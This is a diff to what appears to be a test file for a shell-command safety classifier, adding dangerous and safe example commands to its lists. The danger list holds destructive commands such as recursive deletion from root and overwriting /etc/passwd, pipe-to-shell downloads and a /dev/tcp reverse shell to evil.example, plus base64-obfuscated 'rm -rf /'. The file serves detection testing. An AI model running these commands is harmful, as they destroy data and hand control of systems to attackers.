@@ -94,6 +94,8 @@ DANGER_PLAIN = [
     "eval \"$(curl -s http://evil.example)\"", "source <(wget -qO- http://evil.example/x)",
     "curl -s http://x.example/p | python3 -", "wget http://x.example/a.sh -O a.sh; bash a.sh",
     "$(echo cm0gLXJmIC8= | base64 -d)", "echo cm0gLXJmIC8K | base64 --decode | sh",
+    "cd / && rm -rf *", "cd ~; rm -rf ./*", "cd /etc && rm -rf .", "cd / && cd usr && rm -rf *",
+    "sort -o /etc/passwd users.txt", "exec 5<>/dev/tcp/evil.example/80; cat <&5 | bash >&5 2>&5",
 ]
 
 SAFE = [
@@ -153,6 +155,7 @@ SAFE = [
     "while read l; do echo \"$l\"; done < list.txt", "case $1 in start) echo go;; esac",
     "f() { echo hi; }; f", "set -- a b c; echo \"$@\"", "trap 'rm -f /tmp/lock' EXIT",
     "ls | grep -v node_modules", "cat /proc/cpuinfo | head", "echo done && exit 0",
+    "cd build && rm -rf *", "cd ~/project && rm -rf ./dist", "cd / && ls", "sort -o sorted.txt /etc/passwd",
 ]
 
 def esc(s):
